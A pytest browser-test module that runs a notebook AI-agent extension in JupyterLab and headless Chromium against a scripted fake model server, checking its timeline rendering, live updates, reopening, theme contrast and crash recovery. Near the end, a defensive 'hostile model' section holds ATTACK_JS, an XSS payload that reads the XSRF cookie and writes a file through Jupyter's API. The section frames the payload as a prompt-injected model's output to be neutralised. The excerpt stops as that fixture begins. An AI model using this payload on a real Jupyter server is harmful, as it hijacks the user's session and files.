"""The notebook surface in a real browser: JupyterLab + headless Chromium + a real kernel.

A loopback OpenAI-compatible server plays the model (a tool call, then an answer, for
every `%%agent` cell). JupyterLab serves a temporary copy of notebooks/quickstart.ipynb
(or, until that exists, an equivalent notebook written here), its kernels pointed at the
loopback server through TINY_AGENT_BASE_URL / TINY_AGENT_MODEL. Chromium runs every cell
through the Run menu, then the tests read what a user would see: the timeline (rich HTML
updated in place, live), with its run, attempt and tool statuses, the same timeline after
saving and reopening the notebook with its kernel shut down (no "model not found"), and
its colors' contrast in the light and the dark theme. Screenshots go to
$TMPDIR/tiny-agent-nb-artifacts/ (or $TINY_AGENT_ARTIFACTS); each path is printed.

Needs Debian's `chromium-headless-shell` or `chromium` (tests/helpers/browser_helpers.py prefers
the first; `playwright install` is not used). Without either the tests are skipped, except
under CI=true, where they fail.
"""

from __future__ import annotations

import copy
import json
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest

from helpers.browser_helpers import (
    CHROMIUM,
    CHROMIUM_ARGS,
    REPO,
    JupyterLab,
    artifacts_dir,
    in_ci,
)
from helpers.openai_server import (
    MODEL,
    OpenAIServer,
    Reply,
    text_reply,
    tool_call,
    tool_calls_reply,
)
from helpers.polling import wait_until

try:
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import sync_playwright
except ImportError:  # a test extra; _require() decides between skip and fail
    sync_playwright = None
    PlaywrightTimeout = TimeoutError

# The tests share one JupyterLab server, one model server and Chromium (starting each is
# most of the module's CPU), each session its own notebook in its own directory, its own
# page and kernel; they run in order (a later test reopens what an earlier one saved): one
# worker runs them all in a parallel run.
pytestmark = pytest.mark.xdist_group("browser")

QUICKSTART = REPO / "notebooks" / "quickstart.ipynb"
# Every wait is for an event (a selector, a response, a request); this bounds each
# against a hang, it is not a measure. A healthy quiet run needs seconds; on a loaded
# 2-core machine (the whole suite, or a user's JupyterLab beside it) opening the notebook
# and starting its kernel took 48 s, JupyterLab 34 s to answer.
STEP_TIMEOUT_MS = 180_000
TIMELINE = ".jp-OutputArea-output:has(.tan-timeline)"
WIDGET_ERRORS = ("Error displaying widget", "Failed to load model class", "Model class")
# What the widget manager logs when it cannot show a widget, as console errors. Not
# JupyterLab's warnings about its own slow start on a loaded machine ("Plugin
# @jupyterlab/filebrowser-extension:widget took 5026.10ms to activate").
WIDGET_CONSOLE_ERROR = re.compile(r"^(error|pageerror):.*(widget|model class|model id)", re.I)

# Every code prompt shows an execution count and the kernel is idle, or the run stopped
# (no cell still queued) after at least one cell ran: an error must not cost a timeout.
RUN_FINISHED_JS = """() => {
  const prompts = [...document.querySelectorAll('.jp-Notebook .jp-CodeCell .jp-InputArea-prompt')];
  const indicator = document.querySelector('.jp-Notebook-ExecutionIndicator');
  if (!prompts.length || !indicator || indicator.dataset.status !== 'idle') return false;
  const counted = prompts.filter(p => /\\[\\d+\\]/.test(p.textContent)).length;
  const queued = prompts.some(p => p.textContent.includes('*'));
  return counted === prompts.length || (counted > 0 && !queued);
}"""


def _require(condition: bool, reason: str) -> None:
    if condition:
        return
    if in_ci():
        pytest.fail(f"{reason}; CI=true, so the browser test must run", pytrace=False)
    pytest.skip(reason)


# ---------------------------------------------------------------- the notebook


def _source(cell: dict[str, Any]) -> str:
    source = cell.get("source", "")
    return "".join(source) if isinstance(source, list) else str(source)


def _code_cell(n: int, source: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": f"cell-{n}",
        "metadata": {},
        "outputs": [],
        "source": source,
    }


FALLBACK_NOTEBOOK: dict[str, Any] = {
    "cells": [
        _code_cell(n, source)
        for n, source in enumerate(
            [
                "%load_ext tiny_agent_nb",
                "%%agent\nList the files in this directory and say what you see.",
                "%agent timeline",
                "%agent usage",
            ]
        )
    ],
    "metadata": {},
    "nbformat": 4,
    "nbformat_minor": 5,
}


def prepare_notebook(root: Path) -> tuple[Path, dict[str, Any]]:
    """A clean copy in `root`: outputs, execution counts and saved widget state removed
    (stale outputs would fake a result or show "model not found"), python3 kernel."""
    if QUICKSTART.exists():
        notebook = json.loads(QUICKSTART.read_text(encoding="utf-8"))
        target = root / QUICKSTART.name
    else:
        notebook = copy.deepcopy(FALLBACK_NOTEBOOK)
        target = root / "quickstart-fallback.ipynb"
    for cell in notebook["cells"]:
        if cell.get("cell_type") == "code":
            cell["outputs"] = []
            cell["execution_count"] = None
    metadata = notebook.setdefault("metadata", {})
    metadata.pop("widgets", None)
    metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    target.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    return target, notebook


def agent_cells(notebook: dict[str, Any]) -> list[str]:
    return [
        _source(c)
        for c in notebook["cells"]
        if c.get("cell_type") == "code" and _source(c).lstrip().startswith("%%agent")
    ]


def scripted_run(n: int, cell: str) -> tuple[str, list[Reply]]:
    """One tool call the cell allows (list_files, else bash), then a text answer."""
    options = cell.lstrip().splitlines()[0]
    allowed = re.search(r"--tools[= ]+(\S+)", options)
    tools = allowed.group(1).split(",") if allowed else ["list_files"]
    if "list_files" in tools:
        name, arguments = "list_files", {"path": "."}
    elif "bash" in tools:
        name, arguments = "bash", {"command": f"echo browser-test-{n}"}
    else:
        pytest.fail(f"cannot script a tool call for {options!r}: allow list_files or bash")
    return name, [
        tool_calls_reply(tool_call(f"call_{n}", name, arguments)),
        text_reply(f"Scripted answer {n}: the {name} call went through."),
    ]


# ---------------------------------------------------------------- the session


@dataclass
class LabSession:
    page: Any
    server: OpenAIServer
    lab: JupyterLab
    root: Path  # the notebook's own directory, inside the lab's root
    notebook: Path
    cells: list[str]
    tools: list[str]
    artifacts: Path
    first_request: int  # the shared model server's requests before this session's
    timings: dict[str, float] = field(default_factory=dict)
    console: list[str] = field(default_factory=list)
    requests: list[tuple[str, str]] = field(default_factory=list)  # (method, url) of the page

    def screenshot(self, name: str, selector: str | None = None) -> Path:
        path = self.artifacts / name
        if selector is None:
            self.page.screenshot(path=str(path))
        else:
            self.page.locator(selector).last.screenshot(path=str(path))
        print(f"screenshot: {path}")
        return path

    @property
    def relative(self) -> str:
        """The notebook's path as JupyterLab names it (relative to the lab's root)."""
        return self.notebook.relative_to(self.lab.root).as_posix()

    def model_requests(self) -> list[Any]:
        """What this session's kernels asked the shared model server."""
        return self.server.requests[self.first_request :]

    def kernel_ids(self) -> list[str]:
        """The kernels of this notebook's sessions, as the server lists them."""
        sessions = httpx.get(self.lab.url("api/sessions"), timeout=5).json()
        return [x["kernel"]["id"] for x in sessions if x["path"] == self.relative]

    def notebook_text(self) -> str:
        return str(self.page.locator(".jp-Notebook").inner_text())

    def timeline(self) -> Any:
        """The latest timeline output (rich HTML, updated in place while the kernel runs)."""
        return self.page.locator(TIMELINE).last


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """One Chromium for the module: Playwright's sync API allows one instance per thread."""
    _require(CHROMIUM.exists(), f"{CHROMIUM} is missing (apt-get install chromium-headless-shell)")
    _require(sync_playwright is not None, "the playwright package is not installed")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@dataclass
class Lab:
    """The module's JupyterLab, its kernels pointed at the module's model server."""

    lab: JupyterLab
    server: OpenAIServer

    def directory(self, name: str) -> Path:
        """A new directory of the lab's root, for one session's notebook."""
        path = self.lab.root / name
        path.mkdir()
        return path


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    base = tmp_path_factory.mktemp("browser")
    root = base / "root"
    root.mkdir()
    started = time.monotonic()
    with OpenAIServer() as server:
        env: dict[str, str | None] = {
            "TINY_AGENT_BASE_URL": server.base_url,
            "TINY_AGENT_MODEL": MODEL,
            "TINY_AGENT_API_KEY": None,
            "OPENROUTER_API_KEY": None,
            "JPY_SESSION_NAME": None,
        }
        log_path = artifacts_dir() / "browser-jupyterlab.log"
        with JupyterLab(
            root,
            base / "jupyter",
            env=env,
            log_path=log_path,
            startup_timeout=STEP_TIMEOUT_MS / 1000,
        ) as jupyterlab:
            print(f"jupyterlab up in {time.monotonic() - started:.2f}s")
            yield Lab(jupyterlab, server)


@contextmanager
def _lab(
    lab: Lab,
    notebook_path: Path,
    cells: list[str],
    tools: list[str],
    browser: Any,
    *,
    proposed: int = 0,
) -> Iterator[LabSession]:
    """A page of the shared JupyterLab on `notebook_path` (in its own directory), the
    notebook open and every cell run (Run > Run All Cells); `proposed`: cells the run
    adds (an agent's proposed cell), which Run All does not run."""
    artifacts = artifacts_dir()
    started = time.monotonic()
    with ExitStack() as stack:
        page = browser.new_page(viewport={"width": 1400, "height": 1600})
        stack.callback(page.close)
        page.set_default_timeout(STEP_TIMEOUT_MS)
        session = LabSession(
            page,
            lab.server,
            lab.lab,
            notebook_path.parent,
            notebook_path,
            cells,
            tools,
            artifacts=artifacts,
            first_request=len(lab.server.requests),
        )
        session.timings["page_up"] = time.monotonic() - started
        page.on("console", lambda m: _record_console(session, m.type, m.text))
        page.on("pageerror", lambda e: session.console.append(f"pageerror: {e}"))
        page.on("request", lambda r: session.requests.append((r.method, r.url)))
        try:
            _open_and_run_all(session, proposed)
        except Exception:
            session.screenshot(f"browser-failure-{notebook_path.stem}.png")
            raise
        yield session
        if session.console:
            print("browser console errors/warnings:\n  " + "\n  ".join(session.console))


@pytest.fixture(scope="module")
def lab_session(lab: Lab, browser: Any) -> Iterator[LabSession]:
    notebook_path, notebook = prepare_notebook(lab.directory("quickstart"))
    cells = agent_cells(notebook)
    assert cells, f"{notebook_path.name} has no %%agent cell to test"
    origin = "examples/quickstart.ipynb" if QUICKSTART.exists() else "fallback notebook"
    print(f"notebook: {notebook_path.name} ({origin})")

    tools = []
    for n, cell in enumerate(cells):
        name, replies = scripted_run(n, cell)
        tools.append(name)
        lab.server.enqueue(*replies)
    with _lab(lab, notebook_path, cells, tools, browser) as session:
        yield session
        timings = {k: round(v, 2) for k, v in session.timings.items()}
        (session.artifacts / "browser-timings.json").write_text(
            json.dumps(timings, indent=1), encoding="utf-8"
        )
        print("timings (s):", timings)


def _record_console(session: LabSession, kind: str, text: str) -> None:
    if kind in ("error", "warning"):
        session.console.append(f"{kind}: {text}")


def _wait_for_kernel(s: LabSession, timeout: float) -> None:
    """The server's view: the notebook's kernel with the browser's websocket attached, idle."""
    deadline = time.monotonic() + timeout
    kernels: Any = []
    while time.monotonic() < deadline:
        # Under load the server sometimes answers with an error object (a dict) instead
        # of the list: not ready yet, ask again.
        sessions = httpx.get(s.lab.url("api/sessions"), timeout=5).json()
        if isinstance(sessions, list):
            kernels = [x["kernel"] for x in sessions if x["path"] == s.relative]
            if any(k["connections"] >= 1 and k["execution_state"] == "idle" for k in kernels):
                return
        time.sleep(0.2)  # polling interval
    raise AssertionError(f"no idle, connected kernel in {timeout}s: {kernels}")


def _open_and_run_all(s: LabSession, proposed: int = 0) -> None:
    page, t0 = s.page, time.monotonic()
    # A workspace of its own: the lab's default one would reopen other sessions' notebooks.
    page.goto(s.lab.url(f"lab/workspaces/{s.root.name}/tree/{s.relative}"))
    page.wait_for_selector(".jp-NotebookPanel .jp-Notebook .jp-Cell")
    s.timings["notebook_open"] = time.monotonic() - t0
    _wait_for_kernel(s, STEP_TIMEOUT_MS / 1000)
    page.wait_for_selector('.jp-Notebook-ExecutionIndicator[data-status="idle"]')
    s.timings["kernel_ready"] = time.monotonic() - t0
    assert not page.locator(".jp-Dialog").count(), "a dialog is in the way: " + (
        page.locator(".jp-Dialog").first.inner_text()
    )

    t1 = time.monotonic()
    page.locator("#jp-MainMenu .lm-MenuBar-item", has_text=re.compile(r"^Run$")).click()
    page.locator('.lm-Menu-item[data-command="runmenu:run-all"]').click()
    page.wait_for_function(RUN_FINISHED_JS)
    s.timings["run_all_cells"] = time.monotonic() - t1
    prompts = page.locator(".jp-Notebook .jp-CodeCell .jp-InputArea-prompt").all_inner_texts()
    ran = prompts[: len(prompts) - proposed] if proposed else prompts
    assert all(re.search(r"\[\d+\]", p) for p in ran), (
        f"not every cell ran (prompts {prompts}); the notebook shows:\n{s.notebook_text()}"
    )


# ---------------------------------------------------------------- the tests


@contextmanager
def screenshot_on_failure(s: LabSession, name: str) -> Iterator[None]:
    try:
        yield
    except (KernelStalled, TimelineStale):
        raise  # diagnosed, with its own screenshot
    except BaseException:
        s.screenshot(name)
        raise


def test_run_all_renders_the_timeline(lab_session: LabSession) -> None:
    with screenshot_on_failure(lab_session, "browser-timeline-failure.png"):
        _check_timeline(lab_session)


def _check_timeline(s: LabSession) -> None:
    text = s.notebook_text()
    for problem in WIDGET_ERRORS:
        assert problem not in text, f"{problem!r} is shown in the notebook:\n{text}"
    assert not [c for c in s.console if WIDGET_CONSOLE_ERROR.search(c)], s.console

    view = s.timeline()
    view.wait_for(state="visible")
    view.locator(".tan-timeline .tan-run").first.wait_for(state="visible")
    k = len(s.cells)

    runs = view.locator(".tan-run")
    run_statuses = [runs.nth(i).get_attribute("data-status") for i in range(runs.count())]
    attempts = view.locator(".tan-attempt")
    attempt_statuses = [
        attempts.nth(i).get_attribute("data-status") for i in range(attempts.count())
    ]
    tools = view.locator(".tan-tool")
    tool_rows = [
        (tools.nth(i).get_attribute("data-tool"), tools.nth(i).get_attribute("data-status"))
        for i in range(tools.count())
    ]
    badges = view.locator(".tan-badge").all_inner_texts()
    print(f"runs {run_statuses}; attempts {attempt_statuses}; tools {tool_rows}; badges {badges}")

    assert run_statuses == ["completed"] * k
    assert attempt_statuses == ["settled"] * (2 * k)  # tool call, then the answer
    assert tool_rows == [(name, "completed") for name in s.tools]
    # the badges are what the user reads, and the data-status agrees with them
    assert sorted(badges) == sorted(["completed"] * (2 * k) + ["settled"] * (2 * k))
    head = view.locator(".tan-head").inner_text()
    assert f"{k} run(s), {2 * k} attempt(s), {k} tool call(s)" in head, head
    assert f"{24 * k} in / {10 * k} out · cost " in head, head  # docs/glossary.md

    # the timeline's stylesheet applies: a completed badge is green, not the grey default
    color = view.locator('.tan-run > summary .tan-badge[data-status="completed"]').first
    assert color.evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(46, 125, 50)"

    # the tool really ran in the notebook's directory (list_files shows the notebook)
    if s.tools[0] == "list_files":
        view.locator(".tan-tool").first.locator("summary").click()
        result = view.locator(".tan-tool").first.locator("pre").last
        result.wait_for(state="visible")
        assert s.notebook.name in result.inner_text()

    # what the %%agent cell itself showed: the tool line and the streamed answer
    assert f"✓ {s.tools[0]} completed" in s.notebook_text()
    assert "Scripted answer 0: the" in s.notebook_text()
    if any(_source_is(c, "%agent usage") for c in _notebook_cells(s.notebook)):
        assert f"total  {24 * k} in / {10 * k} out" in s.notebook_text()

    # the session file sits beside the notebook (JPY_SESSION_NAME), one request per step
    assert (s.root / f"{s.notebook.stem}.agent.jsonl").exists()
    assert [r.status for r in s.model_requests()] == [200] * (2 * k)

    view.scroll_into_view_if_needed()
    s.screenshot("browser-timeline.png")
    s.screenshot("browser-timeline-output.png", TIMELINE)


def _saved_cells(path: Path) -> list[dict[str, Any]] | None:
    """The notebook's cells as on disk, or None while a save is writing it: jupyter_server's
    atomic_writing copies the old file aside and rewrites this one in place, so a reader
    can find it empty or cut short."""
    try:
        cells: list[dict[str, Any]] = json.loads(path.read_text(encoding="utf-8"))["cells"]
    except json.JSONDecodeError:
        return None
    return cells


def _notebook_cells(path: Path) -> list[str]:
    cells = wait_until(lambda: _saved_cells(path), what=f"{path.name} written whole")
    return [_source(c) for c in cells]


def _source_is(source: str, line: str) -> bool:
    return source.strip() == line


# How long the new cell may take to send its first request before the test looks for
# the deadlock KernelStalled names: a bound against it, not a measure (a few seconds on
# a loaded machine).
STALLED_S = 60.0


class KernelStalled(AssertionError):
    """The `%%agent` cell run below a live timeline froze mid-run (before its first model
    request, or after its answer was streamed whole)."""


def _diagnose_stall(s: LabSession, k: int) -> None:
    """No model request came: KernelStalled when the new run's runStarted is the file's
    last line (the signature of the deadlock between a commit and the timeline's
    trailing render, tests/test_notebook_timeline_threads.py), else a plain failure."""
    s.screenshot("browser-live-stalled.png")
    lines = (s.root / f"{s.notebook.stem}.agent.jsonl").read_text(encoding="utf-8").splitlines()
    started = sum('"type":"runStarted"' in line for line in lines)
    detail = (
        f"the new %%agent cell sent no model request in {STALLED_S:g} s; {started} "
        f"runStarted in the session file; its last line: {lines[-1][:300]}\n"
        f"notebook:\n{s.notebook_text()[-1200:]}"
    )
    if started == k + 1 and '"type":"runStarted"' in lines[-1]:
        raise KernelStalled(detail)
    raise AssertionError(detail)


class TimelineStale(AssertionError):
    """The session file holds what the timeline still does not show (the tool's result,
    the run's end)."""


def _diagnose_stale(s: LabSession) -> None:
    s.screenshot("browser-live-stale.png")
    text = (s.root / f"{s.notebook.stem}.agent.jsonl").read_text(encoding="utf-8")
    shown = s.timeline().inner_text()
    detail = (
        f"while the model's answer was held ({STEP_TIMEOUT_MS // 1000} s), the timeline did "
        "not show the run open with its bash tool completed and a pending attempt; it shows:\n"
        + shown
    )
    if '"toolCallId":"call_live"' in text:  # committed, so the timeline is behind the file
        raise TimelineStale(detail)
    raise AssertionError(detail + "\n(and the session file has no result for call_live)")


def _diagnose_unfinished(s: LabSession, held: Any) -> None:
    """The held answer was released and the run never showed completed: which side
    stopped (the kernel, with the whole stream written, or the timeline behind the file)."""
    s.screenshot("browser-live-unfinished.png")
    lines = (s.root / f"{s.notebook.stem}.agent.jsonl").read_text(encoding="utf-8").splitlines()
    finished = sum('"type":"operationFinished"' in line for line in lines)
    started = sum('"type":"runStarted"' in line for line in lines)
    detail = (
        f"the released answer ({held.outcome}, written whole: {held.finished.is_set()}) left "
        f"{started} runStarted and {finished} operationFinished in the session file; its last "
        f"line: {lines[-1][:300]}\nnotebook:\n{s.notebook_text()[-1200:]}"
    )
    if finished == started:  # committed, so the timeline is behind the file
        raise TimelineStale(detail)
    if held.finished.is_set():
        raise KernelStalled(detail)
    raise AssertionError(detail)


def test_timeline_updates_live_during_a_run(lab_session: LabSession) -> None:
    """A new `%%agent` cell below the timeline: the timeline shows the run open with its
    tool done while the model is still answering, then completed."""
    with screenshot_on_failure(lab_session, "browser-live-failure.png"):
        _check_live_update(lab_session)


def _check_live_update(s: LabSession) -> None:
    page = s.page
    k = _runs_shown(s)  # the notebook's, and any an earlier test added
    before = len(s.server.requests)
    answer = threading.Event()
    s.server.enqueue(
        tool_calls_reply(tool_call("call_live", "bash", {"command": "echo live-update"})),
        text_reply("Scripted live answer.", hold=answer),
    )
    t0 = time.monotonic()
    try:
        page.locator(".jp-Notebook .jp-Cell").last.locator(".jp-InputArea-prompt").click()
        page.keyboard.press("Escape")
        page.keyboard.press("b")  # insert a cell below, then edit it
        page.keyboard.press("Enter")
        page.keyboard.type("%%agent\nSay hello with bash.")
        page.keyboard.press("Shift+Enter")
        try:
            s.server.wait_for_requests(before + 1, timeout=STALLED_S)
        except TimeoutError:
            _diagnose_stall(s, k)
        s.server.wait_for_requests(before + 2, timeout=STEP_TIMEOUT_MS / 1000)  # the answer
        # the run is open, its tool done, the model's second step in flight
        live = (
            '.tan-run[data-status="open"]',
            '.tan-tool[data-tool="bash"][data-status="completed"]',
            '.tan-attempt[data-status="pending"]',
        )
        try:
            for selector in live:
                s.timeline().locator(selector).wait_for(state="visible")
        except PlaywrightTimeout:
            _diagnose_stale(s)
        s.timings["live_open_seen"] = time.monotonic() - t0
        s.screenshot("browser-live-open.png", TIMELINE)
    finally:
        answer.set()
    view = s.timeline()
    try:
        view.locator(f'.tan-run[data-status="completed"] >> nth={k}').wait_for(state="visible")
    except PlaywrightTimeout:
        _diagnose_unfinished(s, s.server.requests[before + 1])
    s.timings["live_completed_seen"] = time.monotonic() - t0
    statuses = view.locator(".tan-run").evaluate_all("rs => rs.map(r => r.dataset.status)")
    assert statuses == ["completed"] * (k + 1)
    assert "Scripted live answer." in s.notebook_text()
    s.screenshot("browser-live-completed.png", TIMELINE)


def test_the_saved_timeline_shows_after_reopening_with_the_kernel_shut_down(
    lab_session: LabSession,
) -> None:
    """Save, shut the kernel down, reopen: the timeline is the saved output, with every
    run (it was updated in place, so the file holds its latest state), not a widget
    whose model died with the kernel."""
    s = lab_session
    with screenshot_on_failure(s, "browser-reopened-failure.png"):
        # Every run the page shows (the notebook's, and the live test's when it ran first),
        # counted before the save, from what the user sees rather than from test order.
        k = _runs_shown(s)
        assert k >= len(s.cells)
        _save(s)
        saved = _saved_timeline(s.notebook, k)
        assert "application/vnd.jupyter.widget-view+json" not in saved
        assert f"{k} run(s)" in "".join(saved["text/plain"])
        for kernel in s.kernel_ids():
            httpx.delete(s.lab.url(f"api/kernels/{kernel}"), timeout=30)
        assert s.kernel_ids() == []

        s.page.reload()
        view = s.timeline()
        view.locator(".tan-run").first.wait_for(state="visible")
        text = s.notebook_text()
        for problem in WIDGET_ERRORS:
            assert problem not in text, f"{problem!r} is shown in the reopened notebook"
        statuses = view.locator(".tan-run").evaluate_all("rs => rs.map(r => r.dataset.status)")
        assert statuses == ["completed"] * k
        # trusted output (Jupyter signed it on save): its stylesheet applies
        badge = view.locator('.tan-run > summary .tan-badge[data-status="completed"]').first
        assert badge.evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(46, 125, 50)"
        view.scroll_into_view_if_needed()
        s.screenshot("browser-reopened.png", TIMELINE)


def _runs_shown(s: LabSession) -> int:
    view = s.timeline()
    view.locator(".tan-run").first.wait_for(state="visible")
    return int(view.locator(".tan-run").count())


def _save(s: LabSession) -> None:
    """File > Save, as a user saves; done when the server answered the save (its contents
    API's PUT, after it wrote the file), however long a loaded machine takes: no poll of
    the file against a deadline."""
    path = f"/api/contents/{quote(s.relative)}"
    with s.page.expect_response(
        lambda r: r.request.method == "PUT" and urlsplit(r.url).path == path
    ) as response:
        s.page.locator("#jp-MainMenu .lm-MenuBar-item", has_text=re.compile(r"^File$")).click()
        s.page.locator('.lm-Menu-item[data-command="docmanager:save"]').click()
    assert response.value.ok, f"the save failed: {response.value.status} {response.value.text()}"


def _saved_timeline(path: Path, runs: int) -> dict[str, Any]:
    """The `%agent timeline` output as saved on disk, which must hold `runs` runs."""
    found = []
    for cell in _saved_cells(path) or []:
        for output in cell.get("outputs", []):
            html = "".join(output.get("data", {}).get("text/html", ""))
            if 'class="tan-timeline"' in html:
                found.append(html.count('class="tan-run"'))
                if found[-1] == runs:
                    data: dict[str, Any] = output["data"]
                    return data
    raise AssertionError(f"{path.name} was saved with timelines of {found} runs, not {runs}")


# Text against what is behind it, as a reader sees it: colors with alpha (JupyterLab's
# secondary text is rgba) are blended over the first opaque background up the tree.
CONTRAST_JS = """e => {
  const parse = c => (c.match(/[\\d.]+/g) || []).map(Number);
  const over = (top, bottom) => {
    const a = top.length > 3 ? top[3] : 1;
    return [0, 1, 2].map(i => top[i] * a + bottom[i] * (1 - a));
  };
  const layers = [];
  for (let n = e; n; n = n.parentElement) {
    const bg = parse(getComputedStyle(n).backgroundColor);
    if (bg.length && (bg.length < 4 || bg[3] > 0)) layers.push(bg);
    if (bg.length && (bg.length < 4 || bg[3] === 1)) break;
  }
  let back = [255, 255, 255];
  for (const layer of layers.reverse()) back = over(layer, back);
  const fore = over(parse(getComputedStyle(e).color), back);
  const lum = c => {
    const [r, g, b] = c.map(v => v / 255).map(
      v => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const [hi, lo] = [lum(fore), lum(back)].sort((x, y) => y - x);
  return Math.round(((hi + 0.05) / (lo + 0.05)) * 100) / 100;
}"""
# What the issue found unreadable in the dark theme, and the rest of the text.
READ = {
    "header": ".tan-head",
    "run": ".tan-run > summary",
    "run detail": ".tan-run > summary .tan-muted",
    "badge": ".tan-badge",
    "attempt": ".tan-attempt",
    "tool arguments": ".tan-tool pre",
    "tool result": ".tan-tool pre >> nth=-1",
}


TINTS = {"JupyterLab Light": "rgb(238, 238, 238)", "JupyterLab Dark": "rgb(66, 66, 66)"}


def test_the_timeline_reads_in_the_light_and_the_dark_theme(lab_session: LabSession) -> None:
    """Every kind of text has a contrast ratio of at least 4.5 (WCAG AA) in both themes;
    the screenshots are docs/images/timeline-light.png and timeline-dark.png."""
    s = lab_session
    with screenshot_on_failure(s, "browser-theme-failure.png"):
        view = s.timeline()
        view.locator(".tan-run").first.wait_for(state="visible")
        tool = view.locator(".tan-tool").first
        if tool.get_attribute("open") is None:
            tool.locator("summary").click()
        tool.locator("pre").last.wait_for(state="visible")
        found, tints = {}, {}
        try:
            for theme in ("JupyterLab Light", "JupyterLab Dark"):
                _set_theme(s, theme)
                found[theme] = {
                    what: view.locator(selector).first.evaluate(CONTRAST_JS)
                    for what, selector in READ.items()
                }
                tints[theme] = view.locator(".tan-tool pre").first.evaluate(
                    "e => getComputedStyle(e).backgroundColor"
                )
                view.scroll_into_view_if_needed()
                s.screenshot(f"timeline-{theme.split()[-1].lower()}.png", TIMELINE)
        finally:  # the theme is a setting of the shared lab: later sessions open in light
            _set_theme(s, "JupyterLab Light")
        print("contrast:", found)
        low = {t: {w: r for w, r in v.items() if r < 4.5} for t, v in found.items()}
        assert low == {"JupyterLab Light": {}, "JupyterLab Dark": {}}, found
        # the tool's text sits on each theme's own tint (--jp-layout-color2)
        assert tints == TINTS


def _set_theme(s: LabSession, theme: str) -> None:
    """Settings > Theme > `theme`, as a user picks it; done when the page says so."""
    page = s.page
    if page.locator(f'body[data-jp-theme-name="{theme}"]').count():
        return
    page.locator("#jp-MainMenu .lm-MenuBar-item", has_text=re.compile(r"^Settings$")).click()
    page.locator('.lm-Menu-item[data-type="submenu"]', has_text=re.compile(r"^Theme$")).hover()
    page.get_by_role("menuitem", name=theme, exact=True).click()
    page.locator(f'body[data-jp-theme-name="{theme}"]').wait_for(state="attached")
    # the theme's stylesheet is in once its variables apply
    page.wait_for_function(
        "dark => getComputedStyle(document.body).getPropertyValue('--jp-layout-color0')"
        ".trim() === (dark ? '#111' : 'white')",
        arg=theme.endswith("Dark"),
    )


# ---------------------------------------------------------------- after a kernel died

# What a kernel killed inside a bash call leaves behind: the run open, the call's intent
# committed, its effect done (marker.txt), no result. The writer really is SIGKILLed
# while holding the session (tests/test_agent_crash.py kills real loops at every step).
DYING_WRITER = """
import os, signal, sys
from pathlib import Path
root, tests = Path(sys.argv[1]), sys.argv[2]
sys.path.insert(0, tests)
from helpers.scenario import BASH, Run
from tiny_agent_nb.session import HeaderInit, SessionStore
init = HeaderInit(cwd=str(root), provider="openrouter", model=sys.argv[3],
                  environment_identity=str(root))
store = SessionStore.open(root / "recovery.agent.jsonl", create=init)
run = Run(environment=str(root))
command = {"command": "echo ran >> marker.txt"}
store.commit(run.start("Append a line to marker.txt with bash."))
store.commit(run.attempt())
store.commit(run.answer(None, [("call_1", "bash", command)]))
store.commit([run.intent("call_1", BASH, command)])
with open(root / "marker.txt", "a") as marker:
    marker.write("ran\\n")
os.kill(os.getpid(), signal.SIGKILL)
"""


@pytest.fixture(scope="module")
def recovery_session(lab: Lab, browser: Any) -> Iterator[LabSession]:
    root = lab.directory("recovery")
    died = subprocess.run(
        [sys.executable, "-c", DYING_WRITER, str(root), str(REPO / "tests"), MODEL],
        capture_output=True,
        text=True,
        check=False,
    )
    assert died.returncode == -signal.SIGKILL, died.stderr
    notebook = {
        "cells": [_code_cell(0, "%load_ext tiny_agent_nb"), _code_cell(1, "%agent timeline")],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path = root / "recovery.ipynb"
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    with _lab(lab, path, [], [], browser) as session:
        yield session


def test_a_tool_cut_short_by_a_dead_kernel_shows_as_interrupted(
    recovery_session: LabSession,
) -> None:
    """The next kernel's `%load_ext` settles the dead kernel's run; the timeline shows the
    bash call interrupted, and the call was not run again."""
    s = recovery_session
    with screenshot_on_failure(s, "browser-recovery-failure.png"):
        text = s.notebook_text()
        assert "The previous kernel stopped during a run; it is now marked interrupted." in text
        assert "it may have run; it was not run again." in text
        view = s.timeline()
        view.locator('.tan-run[data-status="interrupted"]').wait_for(state="visible")
        runs = view.locator(".tan-run").evaluate_all("rs => rs.map(r => r.dataset.status)")
        tools = view.locator(".tan-tool").evaluate_all(
            "ts => ts.map(t => [t.dataset.tool, t.dataset.status])"
        )
        assert runs == ["interrupted"]
        assert tools == [["bash", "interrupted"]]
        badge = view.locator('.tan-tool .tan-badge[data-status="interrupted"]').first
        assert badge.evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(239, 108, 0)"
    assert (s.root / "marker.txt").read_text() == "ran\n"  # once: before the kernel died
    assert s.model_requests() == []  # settling a dead kernel's run asks no model
    view.scroll_into_view_if_needed()
    s.screenshot("browser-recovery.png")
    s.screenshot("browser-recovery-cells.png", ".jp-NotebookPanel .jp-WindowedPanel-viewport")


# ---------------------------------------------------------------- a hostile model

# What a prompt-injected model might answer: each line would run script, make a request
# or plant a live link in a trusted output (and again when the saved notebook is opened:
# Jupyter signs a notebook whose outputs it trusts). The fetch writes pwned.txt through
# the contents API with the page's XSRF cookie, as an attack would.
ATTACK_JS = (
    "window.__pwned=1;fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':"
    "document.cookie.split('_xsrf=')[1].split(';')[0],'Content-Type':'application/json'},"
    "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})"
)
HOSTILE_ANSWER = "\n\n".join(
    [
